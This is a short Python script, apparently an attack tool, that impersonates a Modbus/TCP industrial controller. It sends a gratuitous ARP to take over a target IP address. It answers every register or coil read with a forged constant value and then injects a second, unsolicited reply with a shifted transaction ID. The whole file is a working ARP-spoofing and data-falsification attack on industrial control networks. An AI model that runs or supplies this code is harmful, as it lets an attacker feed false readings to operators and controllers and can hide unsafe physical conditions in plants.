"""A false PLC: gives every request an answer, and another one that nobody asked for.

attack_answers.py ADDRESS
"""

import asyncio
import struct
import sys

from rawlink import arp, link, own_mac


def answer(transaction: int, unit: int, function: int, count: int, value: int) -> bytes:
    size = (count + 7) // 8 if function in (1, 2) else 2 * count
    data = bytes(size) if function in (1, 2) else struct.pack(f"!{count}H", *([value] * count))
    return struct.pack("!HHHBBB", transaction, 0, 3 + size, unit, function, size) + data


async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while True:
            transaction, _, length = struct.unpack("!HHH", await reader.readexactly(6))
            body = await reader.readexactly(length)
            if body[1] not in (1, 2, 3, 4):
                writer.write(struct.pack("!HHHBBB", transaction, 0, 3, body[0], body[1] | 0x80, 1))
                continue
            count = struct.unpack("!H", body[4:6])[0]
            writer.write(answer(transaction, body[0], body[1], count, 2200))
            await writer.drain()
            await asyncio.sleep(0.01)
            writer.write(answer(transaction + 0x4000 & 0xFFFF, body[0], body[1], count, 2200))
            await writer.drain()
    except (asyncio.IncompleteReadError, ConnectionResetError):
        writer.close()


async def main() -> None:
    link().send(arp(1, (own_mac(), sys.argv[1]), (bytes(6), sys.argv[1])))  # the address is here now
    server = await asyncio.start_server(serve, sys.argv[1], 502)
    await server.serve_forever()


asyncio.run(main())
